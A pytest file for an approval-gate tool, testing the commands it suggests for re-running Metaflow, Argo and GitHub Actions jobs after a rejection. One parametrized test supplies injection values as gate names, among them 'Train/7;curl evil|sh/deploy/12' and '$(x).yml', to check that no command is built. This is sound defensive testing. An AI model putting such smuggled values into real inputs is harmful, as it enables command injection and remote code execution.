"""After a gate was refused: what the page and `hitl show` say of how to ask again."""

from __future__ import annotations

from dataclasses import replace
from typing import Any

import pytest

from bridge.core.delivery import Workflow
from bridge.core.evaluation import Decider, Outcome
from bridge.core.facts import About, Fact, Source
from bridge.core.model import ApprovalRequest, Decision, Gate, Subject
from bridge.pages.afterwards import what_now, word_started
from bridge.pages.model import Site
from bridge.render.run_again import asks_again
from tests import test_votes as pages
from tests.ledgers import a_decision, a_request

DATASTORE = "/home/ann/.metaflow"
ACTIONS = "https://github.com/acme/models/actions"
JOB = "deploy.yml/78/production"
SITE: Site = pages.SITE


def said(about: About, value: str) -> Fact:
    return Fact(about, value, Source.RUN)


def asked(origin: str, key: str, **more: Any) -> ApprovalRequest:
    return replace(a_request(), gate=Gate(origin, key), **more)


def commands(request: ApprovalRequest) -> list[str]:
    return [each.command for each in asks_again(request)]


def test_a_run_of_metaflow_resumes_or_runs_anew() -> None:
    assert commands(asked(DATASTORE, "Train/7/deploy/12")) == [
        "python flow.py resume --origin-run-id 7",
        "python flow.py run",
    ]


def test_a_workflow_of_argo_is_submitted_again() -> None:
    request = asked("argo#u-1", "ml/run-1/wait", workflow=Workflow("ml", "run-1", "u-1"))
    assert commands(request) == ["argo resubmit -n ml run-1"]


def test_a_run_of_github_actions_that_a_person_started_is_started_again() -> None:
    by_hand = said(About.EVENT, "workflow_dispatch"), said(About.REF, "refs/heads/main")
    assert commands(asked(ACTIONS, JOB, facts=by_hand)) == ["gh workflow run deploy.yml --ref main"]
    by_push = said(About.EVENT, "push"), said(About.REF, "refs/heads/main")
    assert commands(asked(ACTIONS, JOB, facts=by_push)) == []


def test_nobody_knows_how_a_script_was_called() -> None:
    assert commands(asked("python", "train/9798d267910d/deploy/1")) == []
    assert commands(asked("flowyml", "train/9798d267910d/deploy/1")) == []


@pytest.mark.parametrize(
    "request_",
    [
        asked(DATASTORE, "Train/7;curl evil|sh/deploy/12"),
        asked(DATASTORE, "Train/--help/deploy/12"),
        asked("argo#u", "a/b/c", workflow=Workflow("ml", "--all", "u")),
        asked("argo#u", "a/b/c", workflow=Workflow("ml `x`", "run", "u")),
        asked(ACTIONS, "$(x).yml/78/production"),
        asked(
            ACTIONS,
            JOB,
            facts=(said(About.EVENT, "workflow_dispatch"), said(About.REF, "refs/heads/a;b")),
        ),
    ],
)
def test_a_name_that_could_be_more_than_a_name_makes_no_command(request_: ApprovalRequest) -> None:
    assert commands(request_) == []


# -- on the page -----------------------------------------------------------------------------------


def decided(request: ApprovalRequest, outcome: Outcome, by: Decider = Decider.PERSON) -> Decision:
    return replace(a_decision(request), outcome=outcome, by=by)


def test_a_rejected_page_says_what_must_change_and_the_command_that_asks_again() -> None:
    request = asked(DATASTORE, "Train/7/deploy/12", subject=Subject("Train", "deploy"))
    assert what_now(request, decided(request, Outcome.REJECTED), SITE) == (
        "**To ask again,** change what led to the rejection, then start a new run of `Train`:"
        " `python flow.py resume --origin-run-id 7` with what the earlier steps made, or"
        " `python flow.py run` from the start. This run cannot ask again."
    )


def test_a_page_of_a_job_links_its_workflow() -> None:
    request = asked(ACTIONS, JOB)
    link = f"[`deploy.yml`]({SITE.url}/actions/workflows/deploy.yml)"
    assert what_now(request, decided(request, Outcome.EXPIRED), SITE) == (
        f"**To ask again,** start a new run of {link}. This run cannot ask again."
    )
    assert word_started(request, SITE) == (
        f"**Resumed:** GitHub Actions starts {link} for the commit that asked."
    )


def test_nothing_is_to_be_done_after_an_approval_or_if_the_run_ended_itself() -> None:
    request = asked(DATASTORE, "Train/7/deploy/12")
    assert what_now(request, decided(request, Outcome.APPROVED), SITE) == ""
    assert what_now(request, decided(request, Outcome.WITHDRAWN, Decider.RUN), SITE) == ""
    assert what_now(request, decided(request, Outcome.WITHDRAWN), SITE).startswith("**To ask again")
